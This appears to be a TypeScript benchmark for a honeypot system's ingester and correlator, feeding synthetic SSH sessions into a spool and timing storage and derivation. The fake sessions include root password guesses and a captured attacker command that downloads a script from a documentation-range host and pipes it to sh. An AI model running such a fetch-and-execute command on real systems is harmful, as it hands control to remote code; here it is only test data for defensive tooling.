// Measures the ingester alone: records per second from a full spool to the store, through the worker itself.

import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createNullBus } from "../../src/bus/null.ts";
import { capture } from "../../src/contract/captured.ts";
import { systemClock } from "../../src/contract/clock.ts";
import type { Evidence } from "../../src/contract/evidence.ts";
import type { EvidenceId, SessionId } from "../../src/contract/ids.ts";
import { createIdSource } from "../../src/contract/ids.ts";
import type { CounterName } from "../../src/contract/metrics.ts";
import { encodeRecord } from "../../src/evidence/record.ts";
import { createSpoolFiles } from "../../src/evidence/spool/files.ts";
import { SpoolWriter } from "../../src/evidence/spool/writer.ts";
import { loadConfig } from "../../src/kit/config.ts";
import type { DataFolder } from "../../src/kit/data-folder.ts";
import { dataFolder, makeDataFolder } from "../../src/kit/data-folder.ts";
import { createLogger } from "../../src/kit/log.ts";
import { createMetrics } from "../../src/kit/metrics.ts";
import type { RunWorker, WorkerContext } from "../../src/kit/worker.ts";
import { openStore } from "../../src/store/open.ts";
import { run as runCorrelator } from "../../src/workers/correlator/run.ts";
import { run as runIngester } from "../../src/workers/ingester/run.ts";

const log = createLogger("bench", "error");
const newId = createIdSource();

/** Sessions of five records, as a password guesser leaves them. */
function conversation(n: number): Evidence[] {
  const session = newId<SessionId>();
  const base = {
    sensor: "bench",
    decky: `web-${n % 50}`,
    service: "ssh",
    session,
    src: { ip: `203.0.113.${n % 250}`, port: 1024 + (n % 60_000) },
    dst: { ip: "192.0.2.7", port: 22 },
    transport: "tcp",
  } as const;
  const stamp = () => ({ ...base, id: newId<EvidenceId>(), ts: systemClock.now() });
  const software = capture("SSH-2.0-libssh2_1.11.0");
  const login = {
    method: "password",
    username: capture("root"),
    secret: capture(`pass${n}`),
    accepted: true,
  } as const;
  const command = capture(
    "uname -a; cat /proc/cpuinfo | grep model | head -1; curl -s http://198.51.100.9/x.sh | sh",
  );
  return [
    { ...stamp(), kind: "connection.opened", data: {} },
    { ...stamp(), kind: "client.identified", data: { via: "banner", software } },
    { ...stamp(), kind: "auth.attempted", data: login },
    { ...stamp(), kind: "command.executed", data: { command, via: "exec", status: 0 } },
    {
      ...stamp(),
      kind: "connection.closed",
      data: { reason: "client", duration_ms: 950, bytes_in: 2100, bytes_out: 3400 },
    },
  ];
}

async function fillSpool(folder: DataFolder, records: number): Promise<void> {
  const options = { quotaBytes: 8 * 1024 ** 3, segmentBytes: 16 * 1024 ** 2, flushMs: 0, flushBytes: 1 };
  const writer = await SpoolWriter.open({
    files: createSpoolFiles(folder.spool),
    clock: systemClock,
    log,
    ...options,
  });
  for (let done = 0, n = 0; done < records; ) {
    const batch = Array.from({ length: 400 }, () => conversation(n++))
      .flat()
      .map(encodeRecord);
    await writer.append(batch);
    done += batch.length;
  }
  await writer.close();
}

/** Runs a worker until `count` of its metric has been reached; returns the seconds that took. */
async function timeUntil(
  folder: DataFolder,
  worker: RunWorker,
  metric: CounterName,
  count: number,
): Promise<number> {
  const stop = new AbortController();
  const metrics = createMetrics();
  const context: WorkerContext = {
    bus: createNullBus("bench"),
    config: loadConfig({ env: {} }),
    folder,
    log,
    metrics,
    clock: systemClock,
    signal: stop.signal,
    reportHealth: () => undefined,
    ready: () => undefined,
  };
  const begin = performance.now();
  const running = worker(context);
  while (metrics.counter(metric).value < count) await systemClock.sleep(5);
  const seconds = (performance.now() - begin) / 1000;
  stop.abort();
  await running;
  return seconds;
}

/** BENCH_RECORDS records (200,000) from spool to store, and from there to derived rows. */
export async function benchIngest(): Promise<unknown> {
  const records = Math.ceil(Number(process.env["BENCH_RECORDS"] ?? 200_000) / 2000) * 2000;
  const root = await mkdtemp(join(tmpdir(), "decnet-bench-"));
  try {
    const folder = dataFolder(root);
    makeDataFolder(folder);
    await fillSpool(folder, records);
    const ingest = await timeUntil(folder, runIngester, "evidence_stored_total", records);
    const derive = await timeUntil(folder, runCorrelator, "evidence_derived_total", records);
    const store = openStore({ path: folder.database, log, mode: "readonly" });
    const stored = store.sqlite.query<{ n: number }, []>("SELECT count(*) AS n FROM evidence").get()?.n;
    await store.close();
    return {
      records,
      stored,
      ingested_per_second: Math.round(records / ingest),
      derived_per_second: Math.round(records / derive),
    };
  } finally {
    await rm(root, { recursive: true, force: true });
  }
}
